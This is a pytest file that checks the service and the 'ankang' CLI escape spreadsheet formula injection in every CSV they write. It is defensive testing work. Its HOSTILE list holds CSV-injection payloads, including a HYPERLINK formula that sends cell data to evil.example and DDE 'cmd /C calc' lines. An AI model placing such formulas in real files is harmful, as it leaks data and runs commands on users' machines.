"""Issue 21, item 5: every CSV the service and the `ankang` commands write is formula-safe (OWASP's rule).

A text cell that starts with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`, so a
spreadsheet shows it as text instead of running it. Numbers, negative ones included, stay numbers.
One test per writer: the score-file answer, dashboard.csv, `ankang export reviews`, `ankang score
risk`, the population generator and the dHash threshold table.
"""

from __future__ import annotations

import argparse
import csv
import io
from pathlib import Path

import pandas as pd

from runtime.safe_csv import FORMULA_STARTS, frame_to_csv, neutralise, rows_to_csv
from tests.serving.test_risk_scorer import low_risk

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: text starting like a formula (a plain number such as -1.5 is a number)."""
    formulas = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not is_number(cell)]
    assert not formulas, formulas


def test_the_rule_quotes_text_that_starts_like_a_formula_and_leaves_numbers_alone():
    assert [neutralise(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
    assert neutralise("E100") == "E100" and neutralise("a=b") == "a=b" and neutralise("") == ""
    assert neutralise(-2) == -2 and neutralise(-2.5) == -2.5 and neutralise(None) is None
    frame = pd.DataFrame({"id": HOSTILE, "score": [-1.5] * len(HOSTILE), "n": [-3] * len(HOSTILE)})
    rows = cells(frame_to_csv(frame))
    assert_no_formula(rows[1:])
    assert [row[1:] for row in rows[1:]] == [["-1.5", "-3"]] * len(HOSTILE)  # numbers stay numbers
    assert_no_formula(cells(rows_to_csv([{"a": value} for value in HOSTILE], ["a"])))


def test_score_file_answer_echoes_hostile_enterprise_ids_as_text(api):
    frame = pd.DataFrame([low_risk(value) for value in HOSTILE[:4]] + [low_risk("=cmd|' /C calc'!A0")])
    response = api.post(
        "/v1/enterprises/score-file", files={"file": ("in.csv", frame.to_csv(index=False).encode(), "text/csv")}
    )
    assert response.status_code == 200, response.text
    rows = cells(response.text)
    assert_no_formula(rows)
    ids = [row[rows[0].index("enterprise_id")] for row in rows[1:]]
    assert ids == ["'" + value for value in [*HOSTILE[:4], "=cmd|' /C calc'!A0"]]


def test_dashboard_csv_neutralises_site_ids_districts_and_enterprise_ids():
    from serving.orders.dashboard import summary_csv

    entries = [{"key": value, "orders": 1, "unrectified": 1, "overdue": 0, "rectified": 0} for value in HOSTILE]
    figures = {
        "orders": 6,
        "unrectified": 6,
        "overdue": 0,
        "by_state": {"open": 6, "verified": 0, "closed": 0},
        "median_days_to_rectify": None,
        "by": {"site": entries, "district": entries, "enterprise": entries},
        "weekly": [],
    }
    rows = cells(summary_csv(figures).decode("utf-8"))
    assert_no_formula(rows)
    assert sum(row[1] == "'" + HOSTILE[0] for row in rows) == 3


def test_review_export_csv_neutralises_cells(tmp_path: Path):
    from serving.review.export import write_csv

    rows = [{"image": "x.jpg", "reviewer_holder": value} for value in HOSTILE]
    write_csv(tmp_path / "reviews.csv", rows, ["image", "reviewer_holder"])
    rows = cells((tmp_path / "reviews.csv").read_bytes().decode("utf-8"))
    assert_no_formula(rows)
    assert [row[1] for row in rows[1:]] == ["'" + value for value in HOSTILE]


def test_ankang_score_risk_writes_a_formula_safe_csv(tmp_path: Path):
    from training.risk.commands import run_score

    data = tmp_path / "in.csv"
    pd.DataFrame([low_risk(value) for value in HOSTILE[:4]]).to_csv(data, index=False)
    out = tmp_path / "out.csv"
    run_score(argparse.Namespace(model=Path("models/labor_risk"), data=data, out=out, chunk_rows=1000))
    rows = cells(out.read_bytes().decode("utf-8"))
    assert_no_formula(rows)
    assert rows[1][rows[0].index("enterprise_id")] == "'" + HOSTILE[0]


def test_population_generator_and_threshold_table_go_through_the_safe_writer(tmp_path: Path, monkeypatch):
    """Their cells are generated, not typed, but they are CSVs the CLI writes: one writer for all."""
    import runtime.safe_csv
    from training.risk.config import GeneratorConfig
    from training.risk.generator import write_population

    written = []
    original = runtime.safe_csv.safe_frame
    monkeypatch.setattr(runtime.safe_csv, "safe_frame", lambda frame: written.append(len(frame)) or original(frame))
    write_population(GeneratorConfig(rows=50), tmp_path / "population.csv")
    assert written == [50]
    assert_no_formula(cells((tmp_path / "population.csv").read_bytes().decode("utf-8")))


def test_no_other_csv_writer_exists():
    """A new `.to_csv(` or `csv.writer` would bypass the rule: runtime/safe_csv.py is the one place that writes CSV."""
    root = Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for folder in ("serving", "training", "ankang_cli", "runtime")
        for path in (root / folder).rglob("*.py")
        if path != root / "runtime" / "safe_csv.py"
        and any(call in path.read_text("utf-8") for call in (".to_csv(", "csv.writer(", "DictWriter("))
    ]
    assert writers == []
